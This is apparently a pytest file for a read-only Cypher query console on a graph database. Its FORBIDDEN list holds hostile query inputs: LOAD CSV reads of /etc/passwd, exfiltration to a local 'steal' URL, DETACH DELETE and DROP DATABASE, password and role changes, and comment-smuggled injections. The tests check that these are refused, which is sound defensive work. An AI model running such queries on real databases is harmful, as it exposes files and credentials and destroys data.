"""The console: what reads passes, everything else is refused, before it runs."""

from __future__ import annotations

import pytest

from graph.console import MOST_ROWS, RefusedError, ask, check_plan, check_words, why_off
from graph.store import Plan, Store
from ingest.errors import StoreError

ALLOWED = """\
MATCH (a:Account) RETURN a.id AS id ORDER BY id
MATCH (a:Account {action: 'ban'}) RETURN count(a) AS banned
MATCH (a:Account)-[r:USED_IP]->(i:IP) RETURN i.id AS ip, count(a) AS n ORDER BY n DESC
MATCH (a:Account) WHERE a.score > 0.9 AND a.id STARTS WITH 'x' RETURN a.id AS id
MATCH (a:Account) WHERE NOT (a)-[:USED_IP]->(:IP) RETURN a.id AS id LIMIT 5
OPTIONAL MATCH (c:Cluster) RETURN c.id AS id
MATCH (a:Account) WITH a.typology AS t, avg(a.score) AS s WHERE s > 0.1 RETURN t, s
MATCH p = shortestPath((a:Account {id: 'a'})-[*..6]-(b:Account {id: 'b'})) RETURN p
UNWIND [1, 2, 3] AS n RETURN n * 2 AS m
RETURN datetime('2026-01-01T00:00:00Z') AS t
MATCH (a:Account) RETURN CASE WHEN a.score > 0.5 THEN 'high' ELSE 'low' END AS band
MATCH (a:Account) RETURN labels(a) AS l, keys(a) AS k LIMIT 1
MATCH (a:Account) RETURN a.id AS id UNION MATCH (k:ApiKey) RETURN k.id AS id
MATCH (a:Account) WHERE EXISTS { (a)-[:USED_DEVICE]->(:Device) } RETURN a.id AS id
MATCH (a:Account) CALL (a) { MATCH (a)-->(x) RETURN count(x) AS n } RETURN a.id AS id, n
MATCH (a:Account) RETURN collect(DISTINCT a.plan) AS plans
MATCH (a:Account {id: 'drop table; create'}) RETURN a.id AS id
MATCH (a)-[r:CREATED|SET]->(b) RETURN type(r) AS t
MATCH (a:Account) RETURN a.id AS id // and show nothing else
MATCH (a:Account) RETURN a.id AS id SKIP 1 LIMIT 1""".splitlines()

FORBIDDEN = """\
CREATE (a:Account {id: 'x'})
create (a) return a
MERGE (a:Account {id: 'x'}) RETURN a
MATCH (a:Account) SET a.score = 0
MATCH (a:Account) SET a += {score: 0}
MATCH (a:Account) SET a:Cleared
MATCH (a:Account) REMOVE a.score
MATCH (a:Account) DELETE a
MATCH (a:Account) DETACH DELETE a
MATCH (a) FOREACH (x IN [1] | SET a.x = x)
CREATE INDEX FOR (a:Account) ON (a.x)
CREATE CONSTRAINT FOR (a:Account) REQUIRE a.x IS UNIQUE
DROP INDEX x
DROP CONSTRAINT x
LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line
load  csv from 'http://127.0.0.1:9/steal' as line return line
MATCH (a:Account) LOAD CSV FROM 'http://127.0.0.1:9/?q=' + a.id AS line RETURN line
CALL { LOAD CSV FROM 'file:///etc/passwd' AS l RETURN l } RETURN l
SHOW TRANSACTIONS
SHOW SETTINGS
SHOW USERS
SHOW PROCEDURES
SHOW FUNCTIONS
SHOW DATABASES
SHOW INDEXES
SHOW TRANSACTIONS YIELD parameters RETURN parameters
TERMINATE TRANSACTIONS 'neo4j-transaction-1'
TERMINATE TRANSACTION 'neo4j-transaction-1'
CALL dbms.listConfig()
CALL dbms.components()
CALL db.labels()
CALL db.createLabel('x')
CALL dbms.killTransaction('x')
CALL db.schema.visualization()
CALL dbms.security.listUsers()
CALL apoc.load.json('http://127.0.0.1:9')
CALL apoc.cypher.runWrite('CREATE (n)', {})
CALL tx.setMetaData({a: 1})
CALL dbms.listConfig
CALL db.labels YIELD label RETURN label
RETURN apoc.text.join(['a'], '')
RETURN reduce(s = 0, x IN range(1, 2000000000) | s + x)
RETURN size([x IN range(1, 2000000000) | x])
UNWIND range(1, 2000000000) AS x RETURN x
CREATE USER x SET PASSWORD 'y'
ALTER USER neo4j SET PASSWORD 'y'
GRANT ROLE admin TO x
CREATE DATABASE x
DROP DATABASE neo4j
STOP DATABASE neo4j
START DATABASE neo4j
USE system SHOW USERS
USE system RETURN 1
PROFILE MATCH (a) RETURN a
EXPLAIN MATCH (a) RETURN a
CYPHER runtime=slotted MATCH (a) RETURN a
MATCH (a) CALL { WITH a DELETE a } IN TRANSACTIONS
MATCH (a) RETURN a; MATCH (b) DELETE b
MATCH (a) RETURN a /* */ ; CREATE (b)
MATCH (n:`A\\u0060) DETACH DELETE (n) //`) RETURN n
MATCH (n:`A\\u0060)-[r]-() RETURN 'INJECTED' AS r //`) RETURN 1
RETURN 1 AS `a
INSERT (a:Account)
ENABLE SERVER 'x'
RENAME USER x TO y
DEALLOCATE DATABASES FROM SERVER 'x'
MATCH (a) /* read */ SET /* only */ a.x = 1
MATCH (a)//x
SET a.x = 1""".splitlines()[:-1]


@pytest.mark.parametrize("text", ALLOWED)
def test_what_reads_passes_the_words(text: str) -> None:
    check_words(text)


@pytest.mark.parametrize("text", [t for t in FORBIDDEN if t != "MATCH (a)//x"])
def test_what_does_more_is_refused_by_its_words(text: str) -> None:
    with pytest.raises(RefusedError):
        check_words(text)


def test_a_comment_hides_nothing_that_follows_it() -> None:
    with pytest.raises(RefusedError, match="SET"):
        check_words("MATCH (a) // read only\nSET a.x = 1")
    with pytest.raises(RefusedError, match="SET"):
        check_words("MATCH (a {x: '//'}) SET a.x = 1")


@pytest.mark.parametrize(
    ("plan", "why"),
    [
        (Plan("w", frozenset({"ProduceResults"})), "change"),
        (Plan("s", frozenset({"ProduceResults"})), "change"),
        (Plan("rw", frozenset({"Create"})), "change"),
        (Plan("r", frozenset()), "no plan"),
        (Plan("r", frozenset({"ProduceResults", "LoadCSV"})), "LoadCSV"),
        (Plan("r", frozenset({"ProcedureCall"})), "ProcedureCall"),
        (Plan("r", frozenset({"ShowTransactions"})), "ShowTransactions"),
    ],
)
def test_a_plan_with_anything_else_is_refused(plan: Plan, why: str) -> None:
    with pytest.raises(RefusedError, match=why):
        check_plan(plan)


def test_the_embedded_database_says_why_it_is_off(embedded_store: Store) -> None:
    assert "embedded" in why_off(embedded_store)
    with pytest.raises(RefusedError, match="saved query"):
        ask(embedded_store, "MATCH (a) RETURN a")


@pytest.mark.neo4j
def test_on_neo4j_the_plans_of_reading_pass(neo4j_store: Store) -> None:
    for text in ALLOWED:
        ask(neo4j_store, text)


# These read the graph alone, in ways that the first gate refuses all the same.
_ONLY_WORDS = ("RETURN reduce", "RETURN size", "UNWIND range", "EXPLAIN", "CYPHER")


@pytest.mark.neo4j
def test_on_neo4j_the_plan_alone_refuses_what_the_words_would(
    neo4j_store: Store,
) -> None:
    """Each gate stands by itself: with the words let through, the plan refuses."""
    for text in FORBIDDEN:
        if text.startswith(_ONLY_WORDS) or "INJECTED" in text:
            continue
        with pytest.raises((RefusedError, StoreError)):
            check_plan(neo4j_store.explain(text))


@pytest.mark.neo4j
def test_on_neo4j_rows_are_capped(neo4j_store: Store) -> None:
    many = "UNWIND $numbers AS a UNWIND $numbers AS b RETURN a, b"
    frame = ask(neo4j_store, many, {"numbers": list(range(100))})
    assert len(frame) == MOST_ROWS
